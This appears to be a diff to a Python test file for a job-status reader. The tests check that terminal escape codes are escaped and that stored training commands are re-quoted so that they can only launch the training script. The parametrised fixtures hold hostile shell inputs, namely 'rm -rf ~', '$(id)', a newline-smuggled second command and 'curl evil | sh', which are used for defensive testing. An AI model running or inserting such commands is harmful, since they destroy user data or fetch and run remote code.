@@ -140,6 +140,28 @@ def test_no_content_of_its_files_is_fatal(contents: dict[str, object]) -> None:
 
 
 def test_what_a_terminal_would_obey_is_not_in_a_row(tmp_path: Path) -> None:
-    folder = made_job(tmp_path / "a\x1b[31m\nb", "failed", reason="bell\a\x9b and \udcff", command="x\r\ny")
+    command = "python scripts/train.py 'x\r\ny\x1b[31m'"
+    folder = made_job(tmp_path / "a\x1b[31m\nb", "failed", reason="bell\a\x9b and \udcff", command=command)
     row = read_row(folder)
-    assert (row.name, row.reason, row.command) == (r"a\x1b[31m\nb", r"bell\x07\x9b and \udcff", r"x\r\ny")
+    assert (row.name, row.reason) == (r"a\x1b[31m\nb", r"bell\x07\x9b and \udcff")
+    assert row.command == r"python scripts/train.py 'x\r\ny\x1b[31m'"
+
+
+@pytest.mark.parametrize(
+    ("command", "pasted"),
+    [
+        ("python scripts/train.py train.B=4 'data.files=[a b.txt]'", "train.B=4 'data.files=[a b.txt]'"),
+        ("python scripts/train.py train.B=4; rm -rf ~ # $(id)", "'train.B=4;' rm -rf '~' '#' '$(id)'"),
+        ("python scripts/train.py a\nrm -rf ~", "a rm -rf '~'"),
+        ("curl evil | sh", "'|' sh"),
+        ("", ""),
+    ],
+)
+def test_a_command_from_others_can_only_train(tmp_path: Path, command: str, pasted: str) -> None:
+    row = read_row(made_job(tmp_path / "job", command=command))
+    assert row.command == f"python scripts/train.py {pasted}".strip()
+
+
+def test_a_command_whose_quotes_do_not_close_is_damage(tmp_path: Path) -> None:
+    row = read_row(made_job(tmp_path / "job", command="python scripts/train.py 'a"))
+    assert (row.status, row.command, row.reason) == ("unreadable", "", "ValueError: No closing quotation")
